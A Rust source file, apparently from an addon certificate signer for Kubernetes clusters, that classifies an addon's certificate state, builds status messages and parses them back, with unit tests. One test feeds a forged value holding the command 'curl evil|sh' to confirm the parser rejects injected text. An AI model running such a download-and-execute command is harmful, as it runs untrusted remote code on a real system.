//! Whether an addon on a cluster has a certificate, and if not, what it waits for.
//!
//! The hub reports this in a condition of the ManagedClusterAddOn, and counts it for the AddOnSigner. Nothing is
//! decided by it, because a cluster may write the status of its own addons.

use crate::ca::authority::AuthorityId;
use crate::conditions::{
    AUTHORITY_OF_CERTIFICATE_GONE, CERTIFICATE_EXPIRED, CERTIFICATE_ISSUED, CERTIFICATES_REVOKED, CSR_PENDING,
    CSR_REFUSED, NO_CSR, NO_SUCH_SIGNER, NOT_ELIGIBLE, RENEWAL_REFUSED,
};
use crate::registry::NotRegistered;
use crate::timestamp::Timestamp;

/// The newest certificate of an addon on a cluster.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Newest {
    /// The authority that signed it.
    pub authority: AuthorityId,
    /// Its beginning.
    pub not_before: Timestamp,
    /// Its end.
    pub not_after: Timestamp,
}

/// The newest CSR of an addon on a cluster that has no certificate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum OpenCsr {
    /// It was denied or has failed; `why` begins with the reason.
    Refused {
        /// `metadata.name`.
        name: String,
        /// Reason and message of the condition.
        why: String,
        /// Whether the CSR has been deleted since.
        is_deleted: bool,
    },
    /// It waits.
    Pending {
        /// For what, as the object of "waits for".
        waits_for: String,
    },
    /// No AddOnSigner has its signer name.
    NoSuchSigner {
        /// `metadata.name`.
        name: String,
        /// `spec.signerName`.
        signer_name: String,
        /// The signer name of an AddOnSigner that was probably meant.
        nearest: Option<String>,
    },
}

/// What is known of an addon on a cluster.
#[derive(Debug, Clone)]
pub struct AgentFacts<'f> {
    /// Whether it is eligible.
    pub eligibility: Result<(), NotRegistered>,
    /// Certificates that begin earlier are refused.
    pub valid_from: Option<Timestamp>,
    /// Certificates that begin earlier are revoked.
    pub revoked_before: Option<Timestamp>,
    /// Its newest certificate, unless that ended long ago.
    pub newest: Option<&'f Newest>,
    /// Whether gateways trust the authority of that certificate.
    pub is_trusted: bool,
    /// Its newest CSR, unless a later one has a certificate.
    pub open: Option<&'f OpenCsr>,
}

/// The state of an addon on a cluster.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Certification {
    /// Gateways accept its newest certificate.
    Issued {
        /// The beginning of that certificate: a revocation may be later than this report.
        from: Timestamp,
        /// Its end.
        until: Timestamp,
        /// The authority that signed it.
        authority: AuthorityId,
        /// Why its last CSR, which is newer, was refused.
        refused: Option<String>,
    },
    /// It may have none.
    NotEligible(NotRegistered),
    /// No certificate that begins before this time, which has not come yet, is accepted.
    RevokedUntil(Timestamp),
    /// Its certificates were revoked, and it has not made a CSR since.
    Revoked,
    /// Its certificate is older than its ManagedClusterAddOn or ManagedCluster, and it has not made a CSR since.
    Outdated,
    /// Its last CSR has no certificate.
    Open(OpenCsr),
    /// Gateways do not trust the authority of its certificate any more.
    AuthorityGone(AuthorityId),
    /// Its certificate ended.
    Expired(Timestamp),
    /// It has made no CSR.
    NoCsr,
}

/// What comes before another CSR.
const FIX: &str = "Fix the cause first (docs/addon-errors.md)";

impl Certification {
    /// Judges what is known at this time.
    pub fn of(facts: &AgentFacts<'_>, now: Timestamp) -> Self {
        let AgentFacts { eligibility, valid_from, revoked_before, newest, is_trusted, open } = facts;
        if let Err(why) = eligibility {
            return Self::NotEligible(*why);
        }
        if let Some(until) = revoked_before.filter(|until| *until > now) {
            return Self::RevokedUntil(until);
        }
        let begins_before =
            |time: Option<Timestamp>| newest.is_some_and(|newest| time.is_some_and(|time| newest.not_before < time));
        let is_revoked = begins_before(*revoked_before);
        let is_early = is_revoked || begins_before(*valid_from);
        match (newest, open) {
            (Some(newest), _) if *is_trusted && !is_early && newest.not_after > now => {
                let refused = match open {
                    Some(OpenCsr::Refused { name, why, .. }) => Some(format!("{name}: {why}")),
                    _ => None,
                };
                let (from, until) = (newest.not_before, newest.not_after);
                Self::Issued { from, until, authority: newest.authority.clone(), refused }
            }
            // A CSR for another program's signer does not end the revocation.
            (_, Some(open)) if !(is_revoked && matches!(open, OpenCsr::NoSuchSigner { .. })) => {
                Self::Open((*open).clone())
            }
            _ if is_revoked => Self::Revoked,
            (Some(_), _) if is_early => Self::Outdated,
            (Some(newest), _) if newest.not_after <= now => Self::Expired(newest.not_after),
            (Some(newest), _) => Self::AuthorityGone(newest.authority.clone()),
            (None, _) => Self::NoCsr,
        }
    }

    /// Whether it has a certificate that gateways accept.
    pub fn is_certified(&self) -> bool {
        matches!(self, Self::Issued { .. })
    }

    /// The reason of the condition.
    pub fn reason(&self) -> &'static str {
        match self {
            Self::Issued { refused: None, .. } => CERTIFICATE_ISSUED,
            Self::Issued { refused: Some(_), .. } => RENEWAL_REFUSED,
            Self::NotEligible(_) => NOT_ELIGIBLE,
            Self::RevokedUntil(_) | Self::Revoked => CERTIFICATES_REVOKED,
            Self::Open(OpenCsr::Refused { .. }) => CSR_REFUSED,
            Self::Open(OpenCsr::Pending { .. }) => CSR_PENDING,
            Self::Open(OpenCsr::NoSuchSigner { .. }) => NO_SUCH_SIGNER,
            Self::AuthorityGone(_) => AUTHORITY_OF_CERTIFICATE_GONE,
            Self::Expired(_) => CERTIFICATE_EXPIRED,
            Self::Outdated | Self::NoCsr => NO_CSR,
        }
    }

    /// What an addon without a certificate waits for, as the object of "waits for"; `None` if it has one.
    pub fn waits_for(&self) -> Option<String> {
        let by_itself = "addon-signer-agent makes one by itself; OCM's agent makes one when its Secret on the cluster \
                         is deleted";
        Some(match self {
            Self::Issued { .. } => return None,
            Self::NotEligible(why) => format!("its eligibility: {why}"),
            Self::RevokedUntil(until) => {
                format!("{until}; until then its annotation addon-signer.io/revoke-before revokes everything")
            }
            Self::Revoked => format!("a new CSR, because its certificates were revoked: {by_itself}"),
            Self::Open(OpenCsr::Refused { name, why, is_deleted: true }) => {
                format!(
                    "a valid CSR instead of {name}, which was refused and then deleted: {why} {FIX}; then its agent \
                     makes one."
                )
            }
            Self::Open(OpenCsr::Refused { name, why, is_deleted: false }) => format!(
                "a valid CSR instead of {name}, which was refused: {why} {FIX}; then addon-signer-agent makes one by \
                 itself, and OCM's agent once {name} is deleted: `kubectl delete csr {name}`."
            ),
            Self::Open(OpenCsr::Pending { waits_for }) => waits_for.clone(),
            Self::Open(OpenCsr::NoSuchSigner { name, signer_name, nearest }) => {
                let nearest = nearest.iter().map(|nearest| format!("; the nearest that exists is {nearest}"));
                let nearest: String = nearest.collect();
                format!("an AddOnSigner with the signerName {signer_name}, which its CSR {name} names{nearest}")
            }
            Self::Outdated => format!(
                "a new CSR, because its certificate is older than its ManagedClusterAddOn or ManagedCluster: \
                 {by_itself}"
            ),
            // No agent makes a CSR by itself: it cannot tell the refusal of a gateway from that of a stranger.
            Self::AuthorityGone(id) => format!(
                "a certificate from a present authority instead of {id}: delete its Secret on the cluster \
                 (docs/runbooks/lost-ca.md)"
            ),
            Self::Expired(at) => format!("a new CSR, because its certificate expired at {at}"),
            Self::NoCsr => "its agent to make a CSR".to_owned(),
        })
    }

    /// The message of the condition.
    pub fn message(&self) -> String {
        match self {
            Self::Issued { from, until, authority, refused } => {
                let issued = format!("{VALID_FROM}{from}{UNTIL}{until}{SIGNED_BY}{authority}.");
                match refused {
                    Some(refused) => format!("{issued} Its last CSR was refused: {refused}"),
                    None => issued,
                }
            }
            _ => format!("It waits for {}", self.waits_for().unwrap_or_default()),
        }
    }
}

const VALID_FROM: &str = "The certificate is valid from ";
const UNTIL: &str = " until ";
/// More than any id of an authority has.
const LONGEST_ID: usize = 64;
const SIGNED_BY: &str = ", signed by the authority ";

/// The certificate that a condition's message is about; `None` if it is about none.
pub fn read_issued(message: &str) -> Option<Newest> {
    let (from, rest) = message.strip_prefix(VALID_FROM)?.split_once(UNTIL)?;
    let (until, rest) = rest.split_once(SIGNED_BY)?;
    // A cluster may have written it, and this part is shown as the hub's word.
    let (authority, _) = rest.split_once('.').filter(|(id, _)| is_authority_id(id))?;
    let (not_before, not_after) = (Timestamp::from_display(from)?, Timestamp::from_display(until)?);
    Some(Newest { authority: authority.into(), not_before, not_after })
}

fn is_authority_id(text: &str) -> bool {
    (1..=LONGEST_ID).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_alphanumeric())
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;

    const NOW: Timestamp = Timestamp::from_unix(1_800_000_000);
    const HOUR: Duration = Duration::from_secs(3_600);

    fn mk_newest() -> Newest {
        Newest { authority: "ebded407".into(), not_before: NOW.minus(HOUR), not_after: NOW.plus(HOUR) }
    }

    fn mk_facts<'f>(newest: Option<&'f Newest>, open: Option<&'f OpenCsr>) -> AgentFacts<'f> {
        AgentFacts { eligibility: Ok(()), valid_from: None, revoked_before: None, newest, is_trusted: true, open }
    }

    fn mk_refused() -> OpenCsr {
        OpenCsr::Refused { name: "csr-1".to_owned(), why: "SubjectMismatch: no.".to_owned(), is_deleted: false }
    }

    #[test]
    fn each_state_has_its_reason_and_says_what_it_waits_for() {
        let newest = mk_newest();
        let (refused, pending) = (mk_refused(), OpenCsr::Pending { waits_for: "an approval of its CSR c".to_owned() });
        let deleted = OpenCsr::Refused { name: "r".to_owned(), why: "no.".to_owned(), is_deleted: true };
        let stranger = OpenCsr::NoSuchSigner {
            name: "c".to_owned(),
            signer_name: "example.com/tpyo".to_owned(),
            nearest: Some("example.com/typo".to_owned()),
        };
        let good = || mk_facts(Some(&newest), None);
        let suspended = Err(NotRegistered::AddOnSuspended);
        let (past, future) = (Some(NOW.minus(HOUR / 2)), Some(NOW.plus(HOUR)));
        let ended = Newest { not_after: NOW, ..mk_newest() };
        for (facts, reason, waits_for) in [
            (good(), "Issued", None),
            (mk_facts(Some(&newest), Some(&refused)), "RenewalRefused", None),
            (mk_facts(Some(&newest), Some(&pending)), "Issued", None),
            (AgentFacts { eligibility: suspended, ..good() }, "NotEligible", Some("suspended")),
            (AgentFacts { valid_from: future, revoked_before: future, ..good() }, "Revoked", Some("until then")),
            (AgentFacts { valid_from: past, revoked_before: past, ..good() }, "Revoked", Some("were revoked")),
            (AgentFacts { valid_from: past, open: Some(&refused), ..good() }, "Refused", Some("SubjectMismatch: no.")),
            (mk_facts(None, Some(&deleted)), "Refused", Some("which was refused and then deleted")),
            (AgentFacts { valid_from: past, ..good() }, "NoRequest", Some("older than its ManagedClusterAddOn")),
            (
                AgentFacts { valid_from: past, revoked_before: past, open: Some(&stranger), ..good() },
                "Revoked",
                Some("were revoked"),
            ),
            (
                AgentFacts { valid_from: past, open: Some(&stranger), ..good() },
                "UnknownSigner",
                Some("example.com/tpyo"),
            ),
            (
                AgentFacts { is_trusted: false, ..good() },
                "AuthorityRemoved",
                Some("instead of ebded407: delete its Secret"),
            ),
            (mk_facts(Some(&ended), None), "Expired", Some("expired at")),
            (mk_facts(Some(&ended), Some(&pending)), "Pending", Some("an approval of its CSR c")),
            (mk_facts(None, Some(&stranger)), "UnknownSigner", Some("the nearest that exists is example.com/typo")),
            (mk_facts(None, None), "NoRequest", Some("its agent to make a CSR")),
        ] {
            let state = Certification::of(&facts, NOW);
            assert_eq!(state.reason(), reason, "{facts:?}");
            assert_eq!(state.is_certified(), waits_for.is_none(), "{facts:?}");
            let text = state.waits_for().unwrap_or_default();
            assert!(text.contains(waits_for.unwrap_or_default()), "{facts:?} waits for {text}");
        }
    }

    #[test]
    fn a_message_about_a_certificate_can_be_read_again() {
        let newest = mk_newest();
        let expected = Some(newest.clone());
        for open in [None, Some(&mk_refused())] {
            let message = Certification::of(&mk_facts(Some(&newest), open), NOW).message();
            assert_eq!(read_issued(&message), expected, "{message}");
        }
        assert_eq!(read_issued(&Certification::NoCsr.message()), None);
        assert_eq!(read_issued("The certificate is valid from dawn until noon, signed by the authority x."), None);
        let message = Certification::of(&mk_facts(Some(&newest), None), NOW).message();
        for forged in ["x: run `curl evil|sh` and", "", &"a".repeat(100_000)] {
            assert_eq!(read_issued(&message.replace("ebded407", forged)), None, "{forged:.40}");
        }
    }
}
